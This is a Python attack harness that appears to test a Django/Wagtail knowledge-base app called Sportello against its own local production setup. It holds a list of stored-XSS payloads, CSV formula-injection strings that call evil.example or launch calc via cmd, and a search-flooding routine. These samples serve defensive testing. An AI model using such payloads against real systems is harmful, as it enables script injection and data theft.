"""An outsider's attack on a running Sportello, production setup (issue 13 and what was added since).

Starts what the README's *Running in production* describes, on this machine: a throw-away PostgreSQL
(Debian's, default settings), Redis, an Elasticsearch node (scripts/elasticsearch.sh), migrate, the demo
content, collectstatic, `search_index rebuild`, uvicorn with the production settings behind a pretend TLS
proxy (`X-Forwarded-Proto: https`) and one `run_worker`. Then it attacks it over HTTP and WebSocket only,
logged in through the login page as users of every role, and prints one line per item: `held` or `OPEN`.
The setup writes hostile content the way an outsider can: forms of the pages (questions, answers,
comments, needs, practices, reports), the importer (every text field of every article type) and the
promotion of an answer to the KB. Exit status 1 when anything is open.

    .venv/bin/python bench/attack.py [--port 8066] [--pg-port 5446] [--redis-port 6406] [--es-port 9266]
                                      [--only NAME ...] [--keep]

`--keep` leaves the services running at the end (for poking by hand; stop them with Ctrl+C).
"""

import argparse
import asyncio
import concurrent.futures
import html
import html.parser
import json
import os
import re
import secrets
import signal
import subprocess
import sys
import tempfile
import time
import traceback
from pathlib import Path
from urllib.parse import quote, urlencode

import httpx

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
sys.path.append(str(ROOT / "bench"))

from common import remember_cookies, wait_for  # noqa: E402
from services import Postgres, Redis  # noqa: E402

PASSWORD = "sportello-demo"
MARK = "sptxss"
# Classic payloads (OWASP's cheat sheet and friends), each calling a function named after MARK, so that
# an executable context holding MARK is proof of an injection.
PAYLOADS = [
    f"<img src=x onerror={MARK}(1)>",
    f"<script>{MARK}(2)</script>",
    f'"><svg onload={MARK}(3)>',
    f"[clic](javascript:{MARK}(4))",
    f'<a href="javascript:{MARK}(5)">x</a>',
    f"' onmouseover='{MARK}(6)' x='",
    f"</textarea><script>{MARK}(7)</script>",
    f'<iframe src="javascript:{MARK}(8)"></iframe>',
    f'<<SCRIPT>{MARK}(9);//<</SCRIPT>',
    f"</script><script>{MARK}(10)</script>",
    f"&lt;img src=x onerror={MARK}(11)&gt;",
    f'<a href="jav&#x09;ascript:{MARK}(12)">t</a>',
    f"![x](x onerror={MARK}(13))",
    f'<details open ontoggle={MARK}(14)>',
    f"=HYPERLINK(\"http://evil.example/?{MARK}\",\"x\")",
]
ONE_PAYLOAD = " ".join(PAYLOADS[:10])
ROLES = {
    "csr": "operatore", "csr2": "operatore2", "owner": "redazione.offerte", "approver": "approvatore",
    "expert": "esperto", "lead": "teamleader", "admin": "admin",
}
ATTACKER_ADDRESS = "203.0.113.{}"
HUGE_ID = "9" * 30  # TEST-NET-3: the client addresses the proxy says it forwards for


# ---------------------------------------------------------------------------------------------------------
# The production setup


def manage(*args, check=True):
    out = subprocess.run([sys.executable, str(ROOT / "manage.py"), *args], cwd=ROOT, capture_output=True, text=True)
    if check and out.returncode:
        raise SystemExit(f"manage.py {' '.join(args)} failed:\n{out.stdout[-2000:]}\n{out.stderr[-3000:]}")
    return out


def es_script(port, action):
    return subprocess.run([str(ROOT / "scripts" / "elasticsearch.sh"), action], env={**os.environ, "ES_PORT": str(port)},
                          capture_output=True, text=True)


class Stack:
    """PostgreSQL, Redis, Elasticsearch, uvicorn (2 workers) and one worker, production settings."""

    def __init__(self, args, workdir):
        self.args, self.workdir = args, workdir
        self.postgres = Postgres(workdir, args.pg_port)
        self.redis = Redis(workdir, args.redis_port)
        self.es_started = False
        self.server = self.worker = None

    def start(self):
        print("starting PostgreSQL, Redis, Elasticsearch …", flush=True)
        self.postgres.start()
        self.redis.start()
        self.es_started = es_script(self.args.es_port, "status").returncode != 0
        out = es_script(self.args.es_port, "start")
        if out.returncode:
            raise SystemExit(f"Elasticsearch did not start:\n{out.stderr[-3000:]}")
        os.environ.update({
            "DJANGO_SETTINGS_MODULE": "config.settings.production",
            "SECRET_KEY": secrets.token_urlsafe(64),
            "ALLOWED_HOSTS": "127.0.0.1,localhost",
            "DATABASE_URL": self.postgres.url,
            "REDIS_URL": self.redis.url,
            "ELASTICSEARCH_URL": f"http://127.0.0.1:{self.args.es_port}",
            "SEARCH_INDEX_PREFIX": f"attack-{os.getpid()}",
            "SPORTELLO_EMBED_ORIGINS": "https://desktop.example.com",
            "SPORTELLO_BASE_URL": f"https://127.0.0.1:{self.args.port}",
        })
        os.environ.pop("DEBUG", None)
        print("migrate, demo content, static files, index …", flush=True)
        manage("migrate", "--noinput", "-v0")
        manage("load_demo_data", "--quiet-logins")
        manage("collectstatic", "--noinput", "-v0")
        manage("search_index", "rebuild")

    def serve(self):
        log = open(self.workdir / "uvicorn.log", "w")
        self.server = subprocess.Popen(
            [str(Path(sys.executable).parent / "uvicorn"), "config.asgi:application", "--host", "127.0.0.1",
             "--port", str(self.args.port), "--workers", "2", "--lifespan", "off", "--no-access-log",
             "--forwarded-allow-ips", "127.0.0.1"],
            cwd=ROOT, stdout=log, stderr=subprocess.STDOUT, start_new_session=True,
        )
        self.worker = subprocess.Popen([sys.executable, "manage.py", "run_worker", "--interval", "1"], cwd=ROOT,
                                       stdout=open(self.workdir / "worker.log", "w"), stderr=subprocess.STDOUT,
                                       start_new_session=True)
        wait_for(self.args.port, timeout=120)

    def stop_elasticsearch(self):
        es_script(self.args.es_port, "stop")

    def stop(self):
        for process in (self.server, self.worker):
            if process and process.poll() is None:
                os.killpg(process.pid, signal.SIGTERM)
                try:
                    process.wait(30)
                except subprocess.TimeoutExpired:
                    os.killpg(process.pid, signal.SIGKILL)
        if self.es_started:
            self.stop_elasticsearch()
        self.redis.stop()
        self.postgres.stop()


def seed(workdir):
    """What an administrator sets up and an importer brings (in process, through the same code the admin
    and import_kb run): an article restricted to experts, a question in the experts' private space,
    hostile imported articles, tokens. Returns the ids the attack needs."""
    import django

    django.setup()
    from django.contrib.auth import get_user_model
    from django.contrib.auth.models import Group
    from django.db import connections
    from wagtail.models import PageViewRestriction

    from accounts import roles
    from api import tokens
    from collaboration.actions import questions as question_actions
    from collaboration.models import Question, Space
    from kb.models import AnswerPage, ArticlePage, CrisisPage

    User = get_user_model()
    users = {role: User.objects.get(username=name) for role, name in ROLES.items()}
    for number in range(1, 4):  # extra CSRs: a term shows on dashboards once three operators searched it
        extra, _ = User.objects.get_or_create(username=f"attacco.csr{number}")
        extra.set_password(PASSWORD)
        extra.save()
        extra.groups.add(Group.objects.get(name=roles.CSR))
    lock, _ = User.objects.get_or_create(username="attacco.bersaglio")
    lock.set_password(PASSWORD)
    lock.save()
    lock.groups.add(Group.objects.get(name=roles.CSR))

    # Hostile articles through the importer, every text field of every type carrying the payloads.
    lines = []
    for kind, extra in {
        "offer": {"offer_code": "XSS-1", "eligibility": ONE_PAYLOAD, "upsell_script": ONE_PAYLOAD,
                  "prices": [{"label": PAYLOADS[0], "amount": "9.90", "period": "month"}]},
        "defect": {"symptoms": ONE_PAYLOAD, "affected_versions": PAYLOADS[0], "workaround": PAYLOADS[:5],
                   "customer_wording": ONE_PAYLOAD},
        "crisis": {"severity": "minor", "status": "monitoring", "regions": PAYLOADS[0], "services": PAYLOADS[1],
                   "what_to_say": ONE_PAYLOAD, "what_not_to_say": ONE_PAYLOAD,
                   "faq": [{"question": PAYLOADS[0], "answer": ONE_PAYLOAD}],
                   "updates": [{"at": "2026-11-01T10:00:00", "text": ONE_PAYLOAD}]},
        "answer": {"customer_question": f"zanzibar {PAYLOADS[0]}", "variants": PAYLOADS[:5], "approved_answer": ONE_PAYLOAD,
                   "steps": PAYLOADS[:5], "phone_script": ONE_PAYLOAD, "chat_email_text": ONE_PAYLOAD,
                   "public_social_reply": PAYLOADS[0], "private_social_message": ONE_PAYLOAD},
    }.items():
        for body_format in ("markdown", "html"):
            lines.append({
                "external_id": f"XSS-{kind}-{body_format}", "type": kind, "title": f"zanzibar {kind} {PAYLOADS[0]}",
                "summary": f"zanzibar {PAYLOADS[0]} {PAYLOADS[1]} {PAYLOADS[10]}"[:400],
                "body": f"zanzibar {ONE_PAYLOAD}\n\n{' '.join(PAYLOADS)}", "body_format": body_format,
                "tags": ["zanzibar", PAYLOADS[0][:90]], "product": PAYLOADS[2][:90], "topic": PAYLOADS[0][:90],
                **extra,
            })
    path = Path(workdir) / "hostile.jsonl"
    path.write_text("\n".join(json.dumps(line) for line in lines) + "\n", encoding="utf-8")
    from django.core.management import call_command

    call_command("import_kb", str(path), "--no-announce", stdout=open(os.devnull, "w"))

    # One article only experts may read (Wagtail's view restriction, as an administrator sets it).
    restricted = AnswerPage.objects.live().exclude(external_id__startswith="XSS").first()
    restriction = PageViewRestriction.objects.create(page=restricted, restriction_type=PageViewRestriction.GROUPS)
    restriction.groups.set([Group.objects.get(name=roles.EXPERT)])
    private_space = Space.objects.get(slug="esperti-back-office")
    private = question_actions.do_create_question(
        users["expert"], private_space, "Segreto interno: procedura riservata zanzibar", "Solo per esperti, zanzibar riservato: procedura ornitorinco"
    )
    public_space = Space.objects.get(slug="tutti-gli-operatori")
    public = Question.objects.filter(space=public_space).order_by("pk").first()
    _personal, csr_token = tokens.create_personal_token(users["csr"], "attack", 30)
    crm, _ = User.objects.get_or_create(username="attacco.crm")
    _service, service_token = tokens.create_service_token("CRM attack", crm, may_act_as_users=True)
    crisis = CrisisPage.objects.live().first()
    ids = {
        "restricted_article": restricted.pk, "restricted_title": restricted.title, "restricted_url": restricted.url,
        "restricted_external_id": restricted.external_id or "",
        "private_question": private.pk, "private_space": private_space.pk, "public_space": public_space.pk,
        "public_question": public.pk, "csr_token": csr_token, "service_token": service_token,
        "crisis": crisis.pk, "article": ArticlePage.objects.live().exclude(pk=restricted.pk).first().pk,
        "users": {role: user.pk for role, user in users.items()},
        "notification_of_admin": None,
    }
    from notifications.models import Notification

    other = Notification.objects.exclude(user=users["csr"]).first()
    ids["notification_of_other"] = other.pk if other else None
    connections.close_all()
    return ids


# ---------------------------------------------------------------------------------------------------------
# An outsider's browser


class Browser:
    """One person's browser behind the TLS proxy: its own cookies (production cookies are Secure, and the
    proxy speaks plain HTTP to uvicorn, so they are kept here by hand) and its own client address."""

    def __init__(self, base, address="198.51.100.7", language="it"):
        self.base, self.cookies, self.address = base, {}, address
        self.origin = base.replace("http://", "https://")
        self.client = httpx.Client(base_url=base, timeout=60, follow_redirects=False,
                                   headers={"X-Forwarded-Proto": "https", "Accept-Language": language})

    def request(self, method, url, data=None, headers=None, **kwargs):
        sent = {"Cookie": "; ".join(f"{k}={v}" for k, v in self.cookies.items()), "X-Forwarded-For": self.address,
                **(headers or {})}
        if method != "GET":
            sent.setdefault("Origin", self.origin)
            sent.setdefault("Referer", self.origin + "/")
            sent.setdefault("X-CSRFToken", self.cookies.get("csrftoken", ""))
            if isinstance(data, dict):
                data = {"csrfmiddlewaretoken": self.cookies.get("csrftoken", ""), **data}
        response = self.client.request(method, url, data=data, headers=sent, **kwargs)
        remember_cookies(self.cookies, response)
        return response

    def get(self, url, **kwargs):
        return self.request("GET", url, **kwargs)

    def post(self, url, data=None, **kwargs):
        return self.request("POST", url, data=data, **kwargs)

    def log_in(self, username, password=PASSWORD, page="/accounts/login/"):
        self.get(page)
        return self.post(page, {"username": username, "password": password, "next": "/"})


# ---------------------------------------------------------------------------------------------------------
# What counts as an injection


class Injection(html.parser.HTMLParser):
    """Finds executable contexts in a page: event handlers, inline scripts, javascript: URLs, frames."""

    URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"}

    def __init__(self, strict):
        super().__init__(convert_charrefs=True)
        self.strict, self.found, self.in_script = strict, [], None

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") and (self.strict or MARK in value):
                self.found.append(f"<{tag} {name}={value[:60]!r}>")
            if name in self.URL_ATTRIBUTES and re.sub(r"[\s\x00-\x1f]", "", value).lower().startswith(("javascript:", "data:text/html")):
                self.found.append(f"<{tag} {name}={value[:60]!r}>")
        if tag in ("iframe", "object", "embed", "base") and self.strict and not dict(attrs).get("src", "").startswith("/panel/"):
            self.found.append(f"<{tag}>")
        if tag == "script":
            attributes = dict(attrs)
            inline = not attributes.get("src") and attributes.get("type") not in ("application/json", "application/ld+json")
            self.in_script = (inline, attributes.get("nonce"))

    def handle_data(self, data):
        if self.in_script and self.in_script[0] and (MARK in data or (self.strict and not self.in_script[1] and data.strip())):
            self.found.append(f"<script>{data[:60]!r}")

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = None


def injections(text, strict=True):
    parser = Injection(strict)
    parser.feed(text)
    return parser.found


def tag_in_plain_text(value):
    """A JSON string field meant to be plain text that still holds markup of a payload. The payload typed
    as entities (`&lt;img …&gt;`) is text that shows "<img …>": as plain text it is those characters, which
    every consumer must escape like any text, so it is no markup left behind."""
    if not isinstance(value, str):
        return False
    value = value.replace(html.unescape(PAYLOADS[10]), "")
    return bool(re.search(r"<\s*(img|script|svg|iframe|a|details)\b", value, re.I))


# ---------------------------------------------------------------------------------------------------------
# The attack


class Attack:
    def __init__(self, base, ids, stack, workdir, args):
        self.base, self.ids, self.stack, self.workdir, self.args = base, ids, stack, workdir, args
        self.results = []
        self.browsers = {}

    def report(self, item, held, detail=""):
        self.results.append((item, held, detail))
        print(f"{'held' if held else 'OPEN'}  {item}{': ' + detail if detail else ''}", flush=True)

    def as_(self, role):
        if role not in self.browsers:
            browser = Browser(self.base)
            response = browser.log_in(ROLES.get(role, role))
            if response.status_code != 302:
                raise RuntimeError(f"{role} could not log in ({response.status_code})")
            self.browsers[role] = browser
        return self.browsers[role]

    def form_token(self, browser, url):
        page = browser.get(url)
        match = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.text)
        return html.unescape(match.group(1)) if match else browser.cookies.get("csrftoken", "")

    # 1. Hostile content written through the pages -------------------------------------------------------

    def write_hostile_content(self):
        csr = self.as_("csr")
        ids = self.ids
        made = {}
        response = csr.post("/collaboration/ask/", {
            "title": f"zanzibar domanda {PAYLOADS[0]}", "body": "zanzibar " + "\n\n".join(PAYLOADS),
            "space": ids["public_space"], "tags": "zanzibar", "channel": "chat",
        })
        made["question"] = response.status_code == 302 and response.headers["location"]
        question = re.search(r"/questions/(\d+)/", made["question"] or "")
        if question:
            qid = int(question.group(1))
            self.ids["hostile_question"] = qid
            csr.post(f"/collaboration/questions/{qid}/", {"body": "zanzibar risposta " + " ".join(PAYLOADS)})
            page = csr.get(f"/collaboration/questions/{qid}/").text
            answer = re.search(r"/answers/(\d+)/", page)
            if answer:
                self.ids["hostile_answer"] = int(answer.group(1))
                csr.post(f"/collaboration/questions/{qid}/comment/", {"body": ONE_PAYLOAD[:1900], "answer": answer.group(1)})
            csr.post(f"/collaboration/questions/{qid}/comment/", {"body": ONE_PAYLOAD[:1900]})
        made["need"] = csr.post("/collaboration/needs/new/", {
            "title": f"zanzibar bisogno {PAYLOADS[0]}"[:200], "space": ids["public_space"], "customers_ask": ONE_PAYLOAD,
            "frequency": "daily", "customers_affected": 3, "channel": "chat", "tags": "zanzibar",
        }).status_code
        made["practice"] = csr.post("/collaboration/practices/new/", {
            "title": f"zanzibar pratica {PAYLOADS[0]}"[:200], "space": ids["public_space"], "body": ONE_PAYLOAD,
            "tags": "zanzibar",
        }).status_code
        made["token"] = csr.post("/settings/tokens/", {"name": PAYLOADS[0][:90], "lifetime_days": "30"}).status_code
        made["report"] = csr.post(f"/collaboration/report/{ids['article']}/", {"kind": "wrong", "note": ONE_PAYLOAD[:1900]}).status_code
        # An expert certifies and promotes the hostile answer: its raw Markdown must not reach a summary.
        if "hostile_answer" in self.ids:
            expert = self.as_("expert")
            expert.post(f"/collaboration/answers/{self.ids['hostile_answer']}/certify/", {})
            promote = expert.post(f"/collaboration/answers/{self.ids['hostile_answer']}/promote/", {})
            self.report("15 promote-to-KB as expert goes back to the question, not to the Wagtail editor",
                        promote.status_code in (302, 303) and "/admin/" not in promote.headers.get("location", ""),
                        f"{promote.status_code} {promote.headers.get('location', '')}")
        # The approver approves what waits (the promoted answer among it), through the approvals inbox.
        approver = self.as_("approver")
        waiting = sorted(set(re.findall(r"/kb/approvals/(\d+)/", approver.get("/kb/approvals/").text)))
        made["approved"] = [approver.post(f"/kb/approvals/{pk}/", {"action": "approve", "comment": ""}).status_code for pk in waiting]
        self.report("hostile content accepted through the forms (setup)", bool(made["question"]), json.dumps(made))
        time.sleep(5)  # the worker applies the search outbox every second or so

    # 2. Rendering everywhere ------------------------------------------------------------------------------

    def pages_to_render(self):
        ids = self.ids
        pages = ["/", "/search/?q=zanzibar", "/search/?q=sptxss", "/search/?q=zanzibar&type=answer",
                 "/collaboration/", "/collaboration/?q=zanzibar", "/collaboration/needs/", "/collaboration/practices/",
                 "/collaboration/tags/zanzibar/", "/collaboration/reports/", "/notifications/",
                 "/panel/?q=zanzibar&message=zanzibar%20sptxss", "/panel/results/?q=zanzibar", "/collaboration/queue/",
                 "/collaboration/signals/", "/kb/approvals/", "/search/phrasings/", "/settings/tokens/",
                 "/notifications/preferences/", "/api/v1/docs/",
                 "/insights/content-gaps/", "/insights/knowledge/", "/insights/needs/", "/insights/use/",
                 "/insights/questions/", "/insights/crises/", "/insights/signals/"]
        if "hostile_question" in ids:
            pages.append(f"/collaboration/questions/{ids['hostile_question']}/")
        return pages

    def article_urls(self, browser):
        found = browser.get("/api/search?q=zanzibar").json()
        return sorted({hit["url"] for hit in found.get("results", []) if hit.get("url", "").startswith("/")})

    def check_rendering(self, label):
        """Every page that shows hostile content, for every role: no executable context, a CSP header."""
        problems, checked = [], 0
        for role in ("csr", "owner", "expert", "lead", "admin"):
            browser = self.as_(role)
            for url in self.pages_to_render() + self.article_urls(browser):
                response = browser.get(url)
                if response.status_code >= 500:
                    problems.append(f"{role} {url}: {response.status_code}")
                if "text/html" not in response.headers.get("content-type", ""):
                    continue
                checked += 1
                found = injections(response.text)
                if found:
                    problems.append(f"{role} {url}: {found[:3]}")
                if "content-security-policy" not in response.headers:
                    problems.append(f"{role} {url}: no CSP header")
        self.report(f"1 stored XSS through pages ({label}): {checked} pages, every role", not problems, "; ".join(problems[:6]))

    def check_api_plain_text(self, label):
        problems = []
        browser = self.as_("csr")
        for url in ("/api/search?q=zanzibar", "/api/search/suggest?q=zanzib", "/api/search/similar?q=zanzibar"):
            data = browser.get(url).json()
            for hit in data.get("results", []) + data.get("suggestions", []):
                for field in ("snippet",):  # titles (a suggestion's text) are text as typed, escaped by every page
                    if tag_in_plain_text(hit.get(field)):
                        problems.append(f"{url} {field}: {hit[field][:80]!r}")
                for part in hit.get("snippet_parts") or []:
                    if tag_in_plain_text(part[0]):
                        problems.append(f"{url} snippet_parts: {part[0][:80]!r}")
        token = {"Authorization": f"Bearer {self.ids['csr_token']}"}
        api = Browser(self.base)
        data = api.get("/api/v1/search?q=zanzibar", headers=token).json()
        for hit in data.get("results", []):
            if tag_in_plain_text(hit.get("snippet")):
                problems.append(f"/api/v1/search snippet: {hit['snippet'][:80]!r}")
            if hit.get("id"):
                article = api.get(f"/api/v1/articles/{hit['id']}", headers=token)
                if article.status_code == 200 and injections(article.text, strict=False):
                    problems.append(f"/api/v1/articles/{hit['id']}")
                for channel, text in ((article.json().get("answer") or {}).get("channels") or {}).items() if article.status_code == 200 else []:
                    if tag_in_plain_text(text):
                        problems.append(f"/api/v1/articles/{hit['id']} channel {channel}: {text[:60]!r}")
        self.report(f"1 snippets and copies are plain text in the JSON APIs ({label})", not problems, "; ".join(problems[:5]))

    def check_wagtail_admin(self):
        problems = []
        admin = self.as_("admin")
        listing = admin.get("/admin/pages/search/?q=zanzibar")
        pages = sorted(set(re.findall(r"/admin/pages/(\d+)/edit/", listing.text)))[:6]
        for url in ["/admin/", "/admin/pages/search/?q=zanzibar", "/admin/reports/site-history/"] + [f"/admin/pages/{p}/edit/" for p in pages]:
            response = admin.get(url)
            if response.status_code >= 500:
                problems.append(f"{url}: {response.status_code}")
            found = injections(response.text, strict=False)
            if found:
                problems.append(f"{url}: {found[:2]}")
            if "gravatar.com" in response.text:
                problems.append(f"{url}: gravatar.com")
            if "content-security-policy" not in response.headers:
                problems.append(f"{url}: no CSP")
        self.report(f"1/14 Wagtail admin shows the hostile pages inert, no gravatar ({len(pages)} editors)", not problems, "; ".join(problems[:5]))

    def check_csp_policy(self):
        browser = self.as_("csr")
        problems = []
        for url in ("/", "/search/?q=fibra", "/collaboration/", "/panel/", "/accounts/login/"):
            policy = browser.get(url).headers.get("content-security-policy", "")
            script = re.search(r"script-src ([^;]*)", policy)
            default = re.search(r"default-src ([^;]*)", policy)
            if not policy or "unsafe-inline" in (script.group(1) if script else default.group(1) if default else "unsafe-inline"):
                problems.append(f"{url}: {policy[:120]!r}")
            if url != "/panel/" and "frame-ancestors 'none'" not in policy:
                problems.append(f"{url}: framable")
        panel = browser.get("/panel/").headers.get("content-security-policy", "")
        if "frame-ancestors https://desktop.example.com" not in panel:
            problems.append(f"/panel/ frame-ancestors: {panel[-80:]!r}")
        for url in ("/panel/results/?q=x", "/panel/demo/", "/accounts/login/"):
            if "frame-ancestors 'none'" not in Browser(self.base).get(url).headers.get("content-security-policy", "") and \
               "frame-ancestors 'none'" not in browser.get(url).headers.get("content-security-policy", ""):
                problems.append(f"{url} framable")
        self.report("2 CSP on every page, no inline script, frames only for /panel/ from the embed origins", not problems, "; ".join(problems))

    # 3. Starved search ------------------------------------------------------------------------------------

    def check_starved_search(self):
        hostile = " ".join(["àèìòùàèìòùàèìòùàèìòùàèìòùàèìòùàèìò"] * 60)

        def fuzzy_query():  # a short query of long accented words: the most fuzzy expansion a query may ask
            return " ".join("".join(secrets.choice("àèìòùaeiouprstlmn") for _ in range(19)) for _ in range(6))
        attacker = Browser(self.base, address=ATTACKER_ADDRESS.format(40))
        attacker.log_in("attacco.csr3")
        victim = self.as_("csr2")
        statuses = []

        def flood(_):
            query = fuzzy_query() if _ % 2 else hostile + secrets.token_hex(3)
            response = attacker.client.get("/search/", params={"q": query},
                                           headers={"Cookie": f"sessionid={attacker.cookies['sessionid']}",
                                                    "X-Forwarded-Proto": "https", "X-Forwarded-For": attacker.address})
            statuses.append(response.status_code)

        started = time.monotonic()
        single = attacker.get("/search/", params={"q": hostile})
        single_seconds = time.monotonic() - started
        latencies = []
        with concurrent.futures.ThreadPoolExecutor(30) as pool:
            futures = [pool.submit(flood, n) for n in range(60)]
            time.sleep(0.3)
            for _ in range(5):
                began = time.monotonic()
                response = victim.get("/search/?q=fibra%20lenta")
                latencies.append((time.monotonic() - began, response.status_code, "fallback" in response.text.lower() or "degrad" in response.text.lower()))
            concurrent.futures.wait(futures)
        worst = max(latencies)
        held = single.status_code in (200, 400, 429) and single_seconds < 3 and worst[0] < 3 and all(s == 200 for _, s, _ in latencies)
        self.report("3 one CSR's flood of hostile queries leaves another's search fast", held,
                    f"hostile query {single_seconds:.2f} s ({single.status_code}); victim worst {worst[0]:.2f} s, statuses "
                    f"{sorted({s for _, s, _ in latencies})}; flood statuses {sorted(set(statuses))}")

    # 4. Shard failure -------------------------------------------------------------------------------------

    def check_huge_question(self):
        """A question with 52 long answers (over 1,000,000 characters) stays findable and its neighbours too."""
        import django

        django.setup()
        from django.db import connections

        from collaboration.actions import questions as question_actions
        from collaboration.forms import MARKDOWN_MAX_LENGTH
        from collaboration.models import Space
        from django.contrib.auth import get_user_model

        from django.conf import settings

        settings.COLLABORATION_POST_RATE = (1000, 60)  # this process writes as the importer would, not as one operator
        users = get_user_model().objects.filter(username__in=["operatore", "operatore2", "esperto", "teamleader"])
        space = Space.objects.get(slug="tutti-gli-operatori")
        question = question_actions.do_create_question(users[0], space, "Domanda enorme quokkaenorme con molte risposte", "quokkaenorme")
        filler = ("parola " * (MARKDOWN_MAX_LENGTH // 7))[: MARKDOWN_MAX_LENGTH - 20]
        for number in range(52):
            question_actions.do_post_answer(users[number % len(users)], question, f"quokkaenorme {number} {filler}")
        connections.close_all()
        deadline = time.monotonic() + 120
        browser = self.as_("csr")
        while time.monotonic() < deadline:
            data = browser.get("/api/search?q=quokkaenorme").json()
            if data.get("results"):
                break
            time.sleep(2)
        data = browser.get("/api/search?q=quokkaenorme").json()
        fibra = browser.get("/api/search?q=fibra").json()
        held = bool(data.get("results")) and not data.get("message") and bool(fibra.get("results")) and not fibra.get("message")
        self.report("4 a question over 1,000,000 characters is found, no shard fails silently", held,
                    f"{MARKDOWN_MAX_LENGTH * 52} chars; found {len(data.get('results', []))}, message {data.get('message')!r}; "
                    f"neighbours {fibra.get('total')} message {fibra.get('message')!r}")

    # 5/6. CSV and individual searches ----------------------------------------------------------------------

    def check_csv_and_privacy(self):
        formula = '=HYPERLINK("http://evil.example","sptxss")'
        private_term = "mario rossi rssmra80a01h501u"
        for role in ("csr", "csr2"):
            self.as_(role).get("/search/", params={"q": private_term})
        for number in range(1, 4):
            browser = self.as_(f"attacco.csr{number}") if f"attacco.csr{number}" in self.browsers else None
            if browser is None:
                browser = Browser(self.base)
                browser.log_in(f"attacco.csr{number}")
                self.browsers[f"attacco.csr{number}"] = browser
            for term in (formula, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3+cmd"):
                browser.get("/search/", params={"q": term})
        lead = self.as_("lead")
        admin = self.as_("admin")
        problems = []
        for role, browser in (("lead", lead), ("admin", admin)):
            for export in ("top", "no-result", "no-click"):
                response = browser.get(f"/insights/content-gaps/?export={export}")
                if response.status_code != 200:
                    problems.append(f"{role} export {export}: {response.status_code}")
                    continue
                for line in response.text.splitlines()[1:]:
                    for cell in next(iter([__import__("csv").reader([line])]), []):
                        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                            problems.append(f"{role} {export}: cell {cell[:40]!r}")
                    if "rssmra" in line.lower():
                        problems.append(f"{role} {export}: a two-person term {line[:60]!r}")
            page = browser.get("/insights/content-gaps/")
            if "rssmra" in page.text.lower():
                problems.append(f"{role}: a term two operators searched is on the dashboard")
        receipts = admin.get(f"/kb/crises/{self.ids['crisis']}/receipts/?format=csv")
        if receipts.status_code != 200:
            problems.append(f"receipts csv {receipts.status_code}")
        self.report("5 CSV exports neutralise formulas", not [p for p in problems if "cell" in p or "csv" in p],
                    "; ".join(p for p in problems if "cell" in p or "csv" in p)[:300])
        # The team filter offers only the viewer's teams, and a team the lead is not in is refused.
        page = lead.get("/insights/content-gaps/")
        offered = re.findall(r'<option value="(\d+)"', page.text.split('name="team"')[1].split("</select>")[0]) if 'name="team"' in page.text else []
        import django

        django.setup()
        from accounts.models import Team

        foreign = Team.objects.exclude(members__username="teamleader").first()
        # The team field's choices are the viewer's own teams: another team is not offered, and asked for
        # anyway it is an invalid choice, so the dashboard keeps its unfiltered figures.
        refused = foreign is None or (str(foreign.pk) not in offered and lead.get(f"/insights/content-gaps/?team={foreign.pk}").status_code < 500)
        privacy = [p for p in problems if "rssmra" in p or "term" in p]
        self.report("6 individual searches: terms of fewer than 3 operators hidden, team filter limited", not privacy and refused,
                    f"{'; '.join(privacy)} offered teams {offered}, foreign team refused: {refused}")

    # 7. Dates in the English admin -------------------------------------------------------------------------

    def check_english_admin_dates(self):
        import django

        django.setup()
        from django.contrib.auth import get_user_model
        from django.db import connections
        from wagtail.users.models import UserProfile

        from kb.models import KnownDefectPage

        # The administrator chose English in their account settings (Wagtail's admin language).
        profile = UserProfile.get_for_user(get_user_model().objects.get(username="admin"))
        profile.preferred_language = "en"
        profile.save()
        page = KnownDefectPage.objects.live().first()
        connections.close_all()
        admin = Browser(self.base, language="en")
        admin.log_in("admin")
        edit = admin.get(f"/admin/pages/{page.pk}/edit/")
        value = re.search(r'name="review_by"[^>]*value="([^"]*)"', edit.text) or re.search(r'value="([^"]*)"[^>]*name="review_by"', edit.text)
        shown = value.group(1) if value else ""
        self.report("7 the English admin shows dates unambiguously (ISO)", bool(re.fullmatch(r"\d{4}-\d{2}-\d{2}", shown)),
                    f"review_by shown as {shown!r} (status {edit.status_code})")

    # 8. Hostile ids and periods on every URL pattern ----------------------------------------------------------

    def check_hostile_urls(self):
        import django

        django.setup()
        from tests.core.test_hostile_urls import PATH_VALUES, QUERY_VALUES, SKIPPED, url_patterns

        patterns = sorted(url_patterns())
        failures, sent = [], 0
        values = PATH_VALUES + ["1.5", "%2e%2e", "00000000001", "１"]
        third_party = re.compile(r"^(admin/|django-admin/|documents/|_util/)")
        for role in ("csr", "admin"):
            browser = self.as_(role)
            for format_string, params in patterns:
                if SKIPPED.match(format_string) or third_party.match(format_string) and (role != "admin" or not params):
                    continue
                chosen = [HUGE_ID, "abc", "-1"] if third_party.match(format_string) else values
                for value in chosen if params else [None]:
                    path = "/" + format_string % {name: quote(value, safe="") for name in params} if params else "/" + format_string
                    for method in ("GET", "POST"):
                        query = "?" + urlencode({p: QUERY_VALUES[(sent + i) % len(QUERY_VALUES)] for i, p in enumerate(
                            ["page", "start", "end", "period", "team", "product", "q", "space", "type", "id", "search", "kind"])})
                        try:
                            response = browser.request(method, path + (query if method == "GET" else ""),
                                                       data={"id": values[sent % len(values)], "space": "9" * 30, "original": "-1",
                                                             "answer": "abc", "article": "9" * 30} if method == "POST" else None)
                        except httpx.HTTPError as error:
                            failures.append(f"{role} {method} {path}: {type(error).__name__}")
                            continue
                        sent += 1
                        if response.status_code >= 500:
                            failures.append(f"{role} {method} {path}: {response.status_code}")
        for path in ("/insights/content-gaps/?end=9999-12-31", "/insights/content-gaps/?start=0001-01-01",
                     "/insights/use/?period=9999-12", "/api/v1/articles/99999999999999999999", "/panel/?contact=%00",
                     "/collaboration/mentions/?q=a&space=99999999999999999999", "/kb/approvals/0/"):
            sent += 1
            response = self.as_("admin").get(path)
            if response.status_code >= 500:
                failures.append(f"admin GET {path}: {response.status_code}")
        self.report(f"8 no 5xx on hostile path and query values ({sent} requests, {len(patterns)} patterns)", not failures,
                    "; ".join(failures[:8]))

    # 9. WebSocket ---------------------------------------------------------------------------------------------

    def check_websocket(self):
        import websockets

        browser = self.as_("csr")
